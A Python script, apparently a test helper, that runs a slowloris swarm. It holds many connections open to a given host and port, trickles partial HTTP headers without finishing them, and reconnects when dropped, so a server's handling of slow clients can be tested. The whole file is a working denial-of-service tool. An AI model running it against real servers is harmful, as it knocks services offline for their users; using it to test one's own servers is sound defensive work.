"""A slowloris swarm: COUNT connections that send a request header one line at a time,
never finishing it, and reconnect when the server closes them (as the attack tools do).

Run as a script (its own process, so that its sockets do not count against the agent's
or pytest's descriptor limit):

    python slow_clients.py HOST PORT COUNT [TRICKLE_SECONDS]

Prints "ready" once every connection has been attempted (or after 5 s: a server that
stopped accepting leaves connects hanging), then "stats opened=N closed=M"
when stdin closes (the test's signal to stop).
"""

from __future__ import annotations

import asyncio
import resource
import sys

PARTIAL_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: slow\r\n"


class Swarm:
    def __init__(self, host: str, port: int, trickle_seconds: float) -> None:
        self.host = host
        self.port = port
        self.trickle_seconds = trickle_seconds
        self.opened = 0
        self.closed = 0
        self.refused = 0
        self.attempted = 0

    async def client(self) -> None:
        """One slow client, forever: connect, trickle, reconnect on the next tick."""
        while True:
            try:
                _, writer = await asyncio.wait_for(
                    asyncio.open_connection(self.host, self.port), self.trickle_seconds * 5
                )
            except (OSError, TimeoutError):
                self.refused += 1
                self.attempted += 1
                await asyncio.sleep(self.trickle_seconds)
                continue
            self.opened += 1
            self.attempted += 1
            try:
                writer.write(PARTIAL_REQUEST)
                while True:
                    await asyncio.sleep(self.trickle_seconds)
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
            except OSError:
                self.closed += 1
            finally:
                writer.close()


async def main(host: str, port: int, count: int, trickle_seconds: float) -> None:
    swarm = Swarm(host, port, trickle_seconds)
    tasks = []
    for i in range(count):
        tasks.append(asyncio.create_task(swarm.client()))
        if i % 100 == 99:
            await asyncio.sleep(0.05)  # in waves, as a listen backlog takes them
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 5.0
    while swarm.attempted < count and loop.time() < deadline:
        await asyncio.sleep(0.05)
    print(f"ready attempted={swarm.attempted} opened={swarm.opened}", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    print(f"stats opened={swarm.opened} closed={swarm.closed} refused={swarm.refused}", flush=True)
    for task in tasks:
        task.cancel()


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    trickle = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), trickle))
